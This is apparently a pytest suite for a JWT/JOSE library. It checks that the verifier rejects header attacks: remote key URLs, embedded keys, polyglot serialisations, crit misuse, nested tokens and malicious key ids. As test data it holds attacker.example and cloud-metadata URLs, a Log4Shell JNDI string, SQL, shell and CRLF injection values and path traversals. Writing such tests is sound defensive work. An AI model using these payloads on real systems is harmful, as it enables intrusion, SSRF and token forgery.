"""Attacks by way of the header: S4 (its own key), S12 (JSON forms), S13 (crit), P7 (JWE), P9 (nesting), P10 (kid)."""

import json
import re
from collections.abc import Mapping
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sealring.errors import JoseError, UnknownKey
from sealring.jose import JWK, JwsVerifier, b64u_encode, sign, verify
from tests.attacks.gate import both, general, reason_of, strict
from tests.jose.making import CLAIMS, ES256, KEY, OTHER_KEY, SIGNATURES, TYP, foreign_token, header_of, key_of, token_of

pytestmark = pytest.mark.usefixtures("no_network")

# S4, a key in the token, or an address to fetch one from

ADDRESSES = [
    "https://attacker.example/jwks.json",
    "http://127.0.0.1:8080/jwks.json",
    "http://169.254.169.254/latest/meta-data/",
    "https://issuer.example/redirect?to=https://attacker.example/",
    "https://issuer.example@attacker.example/jwks.json",
    "https://issuer.example/#@attacker.example/",
    "https://issuer.example/../../jwks.json",
    "//attacker.example/jwks.json",
    "file:///etc/passwd",
    "data:application/json,{}",
    "gopher://attacker.example/",
    "",
]


@pytest.mark.parametrize("name", ["jku", "x5u"])
@pytest.mark.parametrize("address", ADDRESSES)
def test_s4_no_address_in_a_header_is_followed(name: str, address: str, no_network: list[tuple[Any, ...]]) -> None:
    for key in (KEY, OTHER_KEY):
        for kid in (KEY.kid, key.kid):
            assert both(token_of({**header_of(kid=kid), name: address}, key=key)) == "header"
    assert no_network == []


@pytest.mark.parametrize("alg", SIGNATURES)
def test_s4_no_key_in_a_header_is_used(alg: str) -> None:
    """CVE-2018-0114: the attacker signs with the key that the token brings along."""
    attacker = JWK.generate(alg) if not alg.startswith(("RS", "PS")) else key_of(alg)
    jwk = {**attacker.to_dict(), "kid": KEY.kid}
    for value in (jwk, {**jwk, "use": None}, json.dumps(jwk), [jwk], None, {}):
        token = foreign_token({"alg": alg, "kid": KEY.kid, "typ": TYP, "jwk": value}, attacker)
        assert strict(token, algorithms=frozenset({alg, "ES256"})) == "header"
        assert general(token, algorithms={alg, "ES256"}) == "header"
        assert general(token, {"keys": []}, algorithms={alg}) == "header"


@pytest.mark.parametrize("value", [["MIIB"], "MIIB", [], None, {"0": "MIIB"}])
def test_s4_no_certificate_in_a_header_is_used(value: object) -> None:
    assert both(token_of({**header_of(), "x5c": value})) == "header"


@pytest.mark.parametrize("name", ["x5t", "x5t#S256"])
def test_s4_a_certificate_fingerprint_never_chooses_a_key(name: str) -> None:
    """Our own tokens have none; in others' it is a hint that is not needed, and never makes another key good."""
    token = token_of({**header_of(), name: "AAAA"})
    assert strict(token) == "header"
    assert verify(token, KEY, algorithms=ES256).payload == CLAIMS
    assert general(token_of({**header_of(OTHER_KEY, kid=KEY.kid), name: OTHER_KEY.kid}, key=OTHER_KEY)) == "signature"


# S12, other serialisations


def json_forms() -> dict[str, str]:
    header, payload, signature = token_of().split(".")
    none = b64u_encode(b'{"alg":"none"}')
    one = {"protected": header, "signature": signature}
    documents: dict[str, object] = {
        "flattened": {"payload": payload, **one},
        "general": {"payload": payload, "signatures": [one]},
        "no signatures": {"payload": payload, "signatures": []},
        "an unprotected alg": {"payload": payload, "header": {"alg": "none"}, "signature": ""},
        "an unprotected alg beside a protected one": {"payload": payload, **one, "header": {"alg": "none"}},
        "one good and one bad signature": {
            "payload": payload,
            "signatures": [one, {"protected": none, "signature": ""}],
        },
        "an array of tokens": [token_of(), token_of()],
        "a string": token_of(),
    }
    polyglots = {
        # CVE-2022-39227: the text is read as compact by one parser and as JSON by another.
        "a polyglot": f'{{"{header}.{payload}.{signature}":"","payload":"{payload}","protected":"{header}"}}',
        "a compact token around JSON": f'{header}.{{"a":"{payload}"}}.{signature}',
        "a compact token whose header is JSON text": f'{{"alg":"ES256","kid":"{KEY.kid}"}}.{payload}.{signature}',
        "a header with a comma": f"{header},{none}.{payload}.{signature}",
    }
    return {name: json.dumps(value) for name, value in documents.items()} | polyglots


@pytest.mark.parametrize("form", json_forms().values(), ids=[*json_forms()])
def test_s12_only_the_compact_form_is_a_token(form: str) -> None:
    assert both(form) == "malformed"


@pytest.mark.parametrize("token", [None, 7, b"bytes", ["a.b.c"], {"payload": "a", "signatures": []}, object()])
def test_s12_what_is_no_text_is_no_token(token: Any) -> None:
    assert both(token) == "malformed"


# S13, extensions that must be understood

CRITICAL: dict[str, Mapping[str, object]] = {
    "unknown": {"crit": ["http://example.com/UNDEFINED"], "http://example.com/UNDEFINED": True},
    "empty": {"crit": []},
    "twice the same": {"crit": ["exp", "exp"], "exp": 1},
    "a name that is absent": {"crit": ["exp"]},
    "a standard name": {"crit": ["alg"]},
    "several standard names": {"crit": ["kid", "typ", "crit"]},
    "b64 true": {"crit": ["b64"], "b64": True},
    "b64 false": {"crit": ["b64"], "b64": False},
    "b64 false without crit": {"b64": False},
    "b64 true without crit": {"b64": True},
    "b64 as text": {"crit": ["b64"], "b64": "false"},
    "b64 null": {"b64": None},
    "text": {"crit": "exp", "exp": 1},
    "null": {"crit": None},
    "a number": {"crit": 0},
    "false": {"crit": False},
    "an object": {"crit": {"exp": 1}, "exp": 1},
    "a list in a list": {"crit": [["exp"]], "exp": 1},
    "numbers": {"crit": [7]},
}


@pytest.mark.parametrize("members", CRITICAL.values(), ids=[*CRITICAL])
def test_s13_no_extension_is_understood_and_no_odd_list_is_ignored(members: Mapping[str, object]) -> None:
    assert both(token_of({**header_of(), **members})) == "crit"
    with pytest.raises(JoseError) as caught:
        sign(CLAIMS, KEY, header=members)
    assert caught.value.reason == "crit"


def test_s13_an_unencoded_payload_is_never_read() -> None:
    """RFC 7797: with b64 false the signature covers the payload as it stands."""
    header = b64u_encode(json.dumps({**header_of(), "b64": False, "crit": ["b64"]}).encode())
    for payload in ("plain", '{"sub":"a"}', "a.b"):
        signature = b64u_encode(KEY.sign(f"{header}.{payload}".encode()))
        for form in (f"{header}.{payload}.{signature}", f"{header}..{signature}"):
            assert strict(form) in {"crit", "malformed"}
            assert general(form) in {"crit", "malformed"}


# P7 and P9, encrypted tokens and tokens within tokens

JWE_HEADERS: list[dict[str, object]] = [
    {"alg": "RSA1_5", "enc": "A128CBC-HS256"},
    {"alg": "RSA-OAEP", "enc": "A256GCM", "zip": "DEF"},
    {"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 2**31, "p2s": "AAAAAAAAAAA"},
    {"alg": "ECDH-ES", "enc": "A128GCM", "epk": {"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}},
    {"alg": "dir", "enc": "A256GCM", "cty": "JWT"},
]


@pytest.mark.parametrize("header", JWE_HEADERS, ids=lambda header: str(header["alg"]))
def test_p7_an_encrypted_token_is_no_signed_one_and_costs_nothing(header: dict[str, object]) -> None:
    segment = b64u_encode(json.dumps({**header, "kid": KEY.kid, "typ": TYP}).encode())
    assert both(".".join([segment, "AAAA", "AAAA", "AAAA", "AAAA"])) == "malformed"
    assert both(".".join([segment, "", "AAAA", "AAAA", "AAAA"])) == "malformed"
    assert both(".".join([segment, "AAAA", "AAAA"])) == "alg"
    # The members of an encryption in a token that is rightly signed have no effect.
    members = {name: value for name, value in header.items() if name not in {"alg", "cty"}}
    assert verify(token_of({**members, **header_of()}), KEY, algorithms=ES256).payload == CLAIMS


@pytest.mark.parametrize(
    "cty", ["JWT", "jwt", "application/jwt", "APPLICATION/JWT", "JOSE", "jose+json", 7, None, ["JWT"]]
)
def test_p9_a_token_that_announces_a_nested_one_is_refused(cty: object) -> None:
    inner = token_of().encode()
    assert both(token_of({**header_of(), "cty": cty}, inner)) == "header"


def test_p9_a_thousand_tokens_within_each_other_are_not_opened() -> None:
    token = token_of()
    for _ in range(3):
        token = token_of({**header_of(), "cty": "JWT"}, token.encode())
    assert both(token) == "header"
    while len(token) < 200_000:
        token = token_of(payload=token.encode())
    assert both(token) == "size"
    # Without the announcement the payload is what it is: octets, which are not looked into.
    payload = token_of().encode()
    assert verify(token_of(payload=payload), KEY, algorithms=ES256).payload == payload


def test_p9_another_content_type_is_not_our_business_but_no_token_of_ours_has_one() -> None:
    token = token_of({**header_of(), "cty": "text/plain"})
    assert verify(token, KEY, algorithms=ES256).payload == CLAIMS
    assert strict(token) == "header"


# P10, key ids

ODD_KIDS: list[object] = [
    "",
    " ",
    "a b",
    "a\r\nSet-Cookie: x",
    "a\nb",
    "a\0b",
    "\x1b[31mred",
    "\u202eevil",
    "\u00e9",
    "\ud800",
    "k" * 129,
    "k" * 65_000,
    7,
    1.5,
    True,
    ["k"],
    {"k": 1},
]
LOOK_UP_KIDS = [
    "../../../../dev/null",
    "/etc/passwd",
    "'UNION/**/SELECT/**/'secret'--",
    "|sleep${IFS}10",
    "${jndi:ldap://attacker.example/a}",
    "__proto__",
    "constructor",
    "%2e%2e%2f",
    "http://127.0.0.1/",
    "*",
    "{{7*7}}",
    "k" * 128,
]


@pytest.mark.parametrize("kid", ODD_KIDS, ids=lambda kid: ascii(kid)[:20])
def test_p10_an_odd_key_id_is_refused_before_any_look_up(kid: object) -> None:
    asked: list[str] = []
    token = token_of(header_of(kid=kid))
    reason = "json" if kid == "\ud800" else "size" if len(token) > 8192 else "kid"
    assert reason_of(lambda: JwsVerifier(algorithms=ES256, typ=TYP).verify(token, asked.append)) == reason
    assert asked == []
    assert general(token) == ("size" if len(token) > 65_536 else "json" if kid == "\ud800" else "kid")


@pytest.mark.parametrize("kid", LOOK_UP_KIDS, ids=lambda kid: kid[:12])
def test_p10_a_key_id_is_only_ever_compared(kid: str) -> None:
    asked: list[str] = []
    token = token_of(header_of(kid=kid))
    with pytest.raises(UnknownKey) as caught:
        JwsVerifier(algorithms=ES256, typ=TYP).verify(token, asked.append)
    assert asked == [kid]
    assert kid not in str(caught.value)
    given_keys: list[Any] = [KEY, [KEY], {"keys": [KEY.public.to_jwk()]}, {"keys": []}]
    for each in given_keys:
        assert general(token, each) == "unknown_kid"


def test_p10_a_null_key_id_is_not_a_missing_one() -> None:
    raw = json.dumps({**header_of(), "kid": None}).encode()
    assert both(token_of(raw)) == "kid"
    assert verify(token_of(header_of(kid=None)), KEY, algorithms=ES256).payload == CLAIMS
    assert strict(token_of(header_of(kid=None))) == "kid"


# P15, what an error says of a token

UNSAFE = re.compile(r"[^\x20-\x7e\u2026]")


@given(st.text(min_size=1, max_size=40), st.sampled_from(["alg", "kid", "typ", "crit", "jku", "cty", "x"]))
def test_p15_no_part_of_a_token_gets_into_an_error(text: str, name: str) -> None:
    marked = f"mark-{text}"
    token = token_of(json.dumps({**header_of(OTHER_KEY), name: marked}).encode(), key=OTHER_KEY)
    for verdict in (
        lambda: JwsVerifier(algorithms=ES256, typ=TYP).verify(token, {KEY.kid: KEY.public}.get),
        lambda: verify(token, KEY, algorithms=ES256),
    ):
        with pytest.raises(JoseError) as caught:
            verdict()
        shown = f"{caught.value} {caught.value.detail} {caught.value.args}"
        assert "mark-" not in shown
        assert not UNSAFE.search(shown)
